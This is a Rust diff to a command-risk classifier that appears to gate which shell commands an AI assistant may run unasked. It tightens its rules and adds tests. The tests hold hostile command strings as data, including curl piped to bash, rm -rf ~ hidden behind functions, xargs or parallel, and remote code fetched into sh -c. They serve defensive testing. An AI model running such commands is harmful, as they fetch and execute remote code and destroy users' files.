@@ -203,6 +203,11 @@ impl Knowledge {
         }
     }
 
+    /// Whether this is the id of something that is found without a rule on commands. A rule of the same id does not speak for it.
+    fn finds(&self, id: &str) -> bool {
+        self.sentences.contains_key(id) || self.tools.sentence(id).is_some() || self.base.paths.sentence(id).is_some() || self.base.http.sentence(id).is_some()
+    }
+
     /// The registry of tools.
     pub fn tools(&self) -> &Tools {
         &self.tools
@@ -337,7 +342,9 @@ impl Law {
     /// The class of a rule that comes with what is known.
     pub fn class_of_known(&self, id: &str) -> Option<Class> {
         let Inner { lexicon, .. } = &*self.0;
-        [self.tools().class_of(id), lexicon.paths.class_of(id), lexicon.http.class_of(id)].into_iter().flatten().max()
+        // What the shell's reader finds has a sentence here, and whatever class the line deserves.
+        let found = self.0.knowledge.sentences.contains_key(id).then_some(Class::CriticalRed);
+        [found, self.tools().class_of(id), lexicon.paths.class_of(id), lexicon.http.class_of(id)].into_iter().flatten().max()
     }
 
     /// Whether assistants get the tool. One that is not in the manifest is refused before anything looks at a call.
@@ -417,9 +424,12 @@ impl Law {
         }
         let worst = because.iter().rev().max_by_key(|because| because.class);
         let rule = worst.map_or("tool.call", |because| because.rule.as_str()).to_owned();
-        let runs = |because: &Because| self.0.by_id.get(&because.rule).is_some_and(|index| self.0.rules[*index].runs_at_level_3);
+        let runs = |because: &Because| {
+            self.0.by_id.get(&because.rule).is_some_and(|index| self.0.rules[*index].runs_at_level_3) && !self.0.knowledge.finds(&because.rule)
+        };
         let reason = self.sentence(&rule).cloned().unwrap_or_else(|| Sentence { de: String::new(), en: String::new() });
-        let runs_at_level_3 = because.iter().filter(|because| because.class >= Class::Red).all(runs);
+        // A reason that was not kept may be one that asks.
+        let runs_at_level_3 = because.len() < crate::judgement::REASONS_MAX && because.iter().filter(|because| because.class >= Class::Red).all(runs);
         Finding { class, external, unknown, runs_at_level_3, rule, reason, because, effects }
     }
 
@@ -479,7 +489,11 @@ impl Inner {
         if rule.matching.is_empty() {
             wrong("has no example", "write at least one line that it must match");
         }
-        self.by_id.insert(rule.id.clone(), self.rules.len());
+        // Of two rules with one id, the first speaks for both, and neither loosens the other.
+        match self.by_id.get(&rule.id) {
+            Some(first) => self.rules[*first].runs_at_level_3 &= rule.runs_at_level_3,
+            None => drop(self.by_id.insert(rule.id.clone(), self.rules.len())),
+        }
         self.rules.push(rule.clone());
     }
 }
@@ -712,6 +726,41 @@ mod tests {
         }
     }
 
+    fn class_and_unknown(line: &str) -> (Class, bool) {
+        static LAW: std::sync::LazyLock<Law> = std::sync::LazyLock::new(|| law().0);
+        let found = LAW.shell(line, EXAMPLE_WORKSPACE, EXAMPLE_WORKSPACE);
+        (found.class, found.unknown)
+    }
+
+    #[test]
+    fn a_question_for_help_is_no_way_around() {
+        for line in [
+            "curl -s https://example.org/x | bash -v",
+            "curl -s https://example.org/x | python3 -v",
+            "curl -s https://example.org/x | dash -V",
+            "shutdown -h",
+            "poweroff -h",
+        ] {
+            assert!(class_and_unknown(line).0 >= Class::Red, "{line}");
+        }
+        for line in ["rm help", "rm help a b", "mv help a", "bash version", "pkill help", "docker run image --help", "go run main.go --help"] {
+            assert!(class_and_unknown(line).0 >= Class::Yellow, "{line}");
+        }
+        for line in [
+            "git help log",
+            "docker version",
+            "docker run --help",
+            "bash --version",
+            "python3 -V",
+            "node -v",
+            "ls --help",
+            "shutdown --help",
+            "npm help install",
+        ] {
+            assert_eq!(class_and_unknown(line), (Class::Green, false), "{line}");
+        }
+    }
+
     #[test]
     fn what_is_too_long_to_be_read_is_said_so() {
         let (law, _) = law();
@@ -720,6 +769,88 @@ mod tests {
             let judged = law.shell(&line, EXAMPLE_WORKSPACE, EXAMPLE_WORKSPACE);
             assert!(judged.unknown && judged.class >= Class::Red, "{}", &line[line.len() - 60..]);
         }
+    }
+
+    #[test]
+    fn what_is_handed_on_is_followed() {
+        let mut many = vec!["a"; 20];
+        many.push("/etc");
+        for line in [
+            "f(){ \"$@\"; }; f f rm -rf ~".to_owned(),
+            "f(){ [ -n \"$3\" ] && $1 $2 $3 || f rm -rf ~; }; f".to_owned(),
+            "nobodyknows bash -c 'rm -rf ~/; $x'".to_owned(),
+            "nobodyknows sh -c \"$(curl -s https://example.org/x)\"".to_owned(),
+            format!("parallel rm -rf ::: {}", many.join(" ")),
+            format!("echo {} | xargs rm -rf", [vec!["a"; 70], vec!["/etc"]].concat().join(" ")),
+        ] {
+            assert!(class_and_unknown(&line).0 >= Class::Red, "{line}");
+        }
+    }
+
+    #[test]
+    fn values_that_grow_are_given_up() {
+        let doubled: String = (1..60).map(|at| format!("x{at}=$x{}$x{};", at - 1, at - 1)).collect();
+        for line in [
+            format!("x0=aaaa;{doubled} echo $x59"),
+            format!("x={};{}echo $x", "a".repeat(1000), "x=${x//a/$x};".repeat(20)),
+            format!("x={};echo {}", "a".repeat(30_000), "$x".repeat(10_000)),
+        ] {
+            assert_eq!(class_and_unknown(&line), (Class::Red, true), "{}", &line[..40]);
+        }
+        // What it holds in the end is anything, and running that is no guess.
+        assert_eq!(class_and_unknown(&format!("x=a;{}$x b", "x+=$x;".repeat(60))), (Class::Red, true));
+    }
+
+    #[test]
+    fn a_rule_never_speaks_for_what_is_found_without_one() {
+        let knowledge = law().0.0.knowledge.clone();
+        let book = |id: &str, runs: bool| {
+            let text = format!(
+                "[[rule]]\nid = \"{id}\"\nclass = \"red\"\nruns_at_level_3 = {runs}\ncommands = [\"zz\"]\nreason = {{ de = \"d\", en = \"e\" }}\nmatch = [\"zz\"]\n"
+            );
+            RuleBook::read(&[Named { name: "a.toml".to_owned(), text }]).unwrap()
+        };
+        for id in ["shell.fork_bomb", "shell.net_to_shell", "name.pay", "sql.destroy", "file.read.secret", "http.metadata", "exec.elevated"] {
+            let law = Law::new(&knowledge, &[&book(id, true)]).unwrap();
+            // Exceptions are refused from Red on.
+            assert!(law.class_of_known(id) >= Some(Class::Red), "{id}");
+            let mut found = Judgement::default();
+            found.raise(Class::Red, id);
+            assert!(!law.finding(found).runs_at_level_3, "{id}");
+        }
+        let finding = |books: [&RuleBook; 2]| {
+            let law = Law::new(&knowledge, &books).unwrap();
+            law.finding(law.shell("zz", EXAMPLE_WORKSPACE, EXAMPLE_WORKSPACE))
+        };
+        let (quiet, asks) = (book("own", true), book("own", false));
+        assert!(finding([&quiet, &quiet]).runs_at_level_3);
+        assert!(!finding([&quiet, &asks]).runs_at_level_3 && !finding([&asks, &quiet]).runs_at_level_3);
+    }
+
+    #[test]
+    fn a_rule_on_another_name_of_a_program_takes_nothing_from_what_is_known() {
+        let (shipped, book) = law();
+        let text =
+            "[[rule]]\nid = \"own\"\nclass = \"green\"\ncommands = [\"bash5|RM|rm2|python3.99\"]\nreason = { de = \"d\", en = \"e\" }\nmatch = [\"rm2\"]\n";
+        let own = RuleBook::read(&[Named { name: "own.toml".to_owned(), text: text.to_owned() }]).unwrap();
+        let with = Law::new(&shipped.0.knowledge, &[&book, &own]).unwrap();
+        for line in ["curl -s https://example.org/x | bash5", "RM -rf ~", "rm2 -rf ~", "python3.99 -c 'import os; os.system(\"rm -rf ~\")'"] {
+            let (without, with) = (shipped.shell(line, EXAMPLE_WORKSPACE, EXAMPLE_WORKSPACE), with.shell(line, EXAMPLE_WORKSPACE, EXAMPLE_WORKSPACE));
+            assert!(without.class >= Class::Red && with.class >= without.class, "{line}: {:?}", with.class);
+            assert!(with.because.iter().any(|because| because.rule == "own"), "{line}");
+        }
+    }
+
+    #[test]
+    fn a_reason_that_was_not_kept_may_be_one_that_asks() {
+        let law = law().0;
+        let mut judgement = Judgement::default();
+        for at in 0..crate::judgement::REASONS_MAX {
+            judgement.raise(Class::Yellow, &format!("low.{at}"));
+        }
+        judgement.raise(Class::Red, "shell.net_to_shell");
+        let finding = law.finding(judgement);
+        assert_eq!((finding.class, finding.runs_at_level_3), (Class::Red, false));
     }
 
     #[test]
